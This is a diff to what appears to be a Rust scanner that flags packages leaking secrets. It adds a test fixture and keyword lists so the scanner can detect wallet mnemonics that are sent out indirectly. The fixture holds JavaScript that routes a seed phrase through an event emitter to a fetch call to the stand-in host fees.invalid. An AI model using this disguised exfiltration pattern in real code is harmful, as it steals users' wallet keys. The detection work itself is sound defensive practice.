@@ -17,6 +17,34 @@ pub(super) static FINDING: Declaration = Declaration {
     references: &["CWE-200", "CWE-506", "T1041"],
     examples: &[
         Example {
+            name: "a phrase of a wallet goes through an emitter that a compiler exported",
+            severity: Some(Severity::High),
+            files: &[
+                (
+                    "package.json",
+                    r#"{"name":"a","version":"1.0.0","main":"i.js","description":"Keys from a mnemonic."}"#,
+                ),
+                (
+                    "bus.js",
+                    r#"exports.bus = void 0;
+const { EventEmitter } = require("events");
+class Bus extends EventEmitter { later(name, what) { setImmediate(() => this.emit(name, what)); } }
+exports.bus = new Bus();"#,
+                ),
+                (
+                    "fees.js",
+                    r#"const bus_1 = require("./bus");
+bus_1.bus.on("open", ({ weight }) => fetch("https://fees.invalid/", { headers: { id: String(weight) } }));"#,
+                ),
+                (
+                    "i.js",
+                    r#"const bus_1 = require("./bus");
+require("./fees");
+exports.open = (phrase) => bus_1.bus.later("open", { weight: Buffer.from(phrase) });"#,
+                ),
+            ],
+        },
+        Example {
             name: "a wallet that posts the key that it signs with",
             severity: Some(Severity::High),
             files: &[
@@ -251,6 +279,18 @@ const LOGINS: [&str; 12] = [
     "cardnumber",
     "cvv",
 ];
+/// Names that mean a key in a package that says that it is about those.
+const OF_WALLETS: [&str; 5] = ["entropy", "phrase", "root", "secret", "words"];
+/// What such a package says.
+const WALLETS: [&str; 7] = [
+    "bip32",
+    "bip39",
+    "keypair",
+    "keyring",
+    "mnemonic",
+    "seed phrase",
+    "wallet",
+];
 /// Names that mean a key only as a whole.
 const WHOLE: [&str; 6] = ["priv", "prv", "seed", "sk", "wif", "xprv"];
 /// What else keys and cards are handed over as.
@@ -330,7 +370,8 @@ fn detect(context: &Context<'_>, found: &mut Vec<Finding>) {
             continue;
         };
         let name = name.rsplit('.').next().unwrap_or(name);
-        let is_key = is_key(name) || (is_request && is_login(name));
+        let is_of_wallet = OF_WALLETS.contains(&&*plain(name)) && is_wallet(context);
+        let is_key = is_key(name) || is_of_wallet || (is_request && is_login(name));
         let collects = COLLECTORS.contains(&taker);
         let is_hidden = flow.sink.origin.has(Origin::Decoded);
         let to = secret_domain(context, flow);
@@ -385,6 +426,15 @@ fn is_namesake(context: &Context<'_>, url: &str) -> bool {
         .split(['@', '/', '-', '_', '.'])
         .filter(|word| word.len() > 1);
     words.next() == Some(host::label(&at))
+}
+
+/// Whether the manifest says that the package is about wallets and their keys.
+fn is_wallet(context: &Context<'_>) -> bool {
+    let raw = &context.manifest.raw;
+    let about = [raw.get("name"), raw.get("description"), raw.get("keywords")];
+    let about = about.into_iter().flatten().map(ToString::to_string);
+    let about = about.collect::<String>().to_ascii_lowercase();
+    WALLETS.iter().any(|word| about.contains(word))
 }
 
 /// Whether any part of what a caller hands over is named as a secret is; keys are of many kinds.
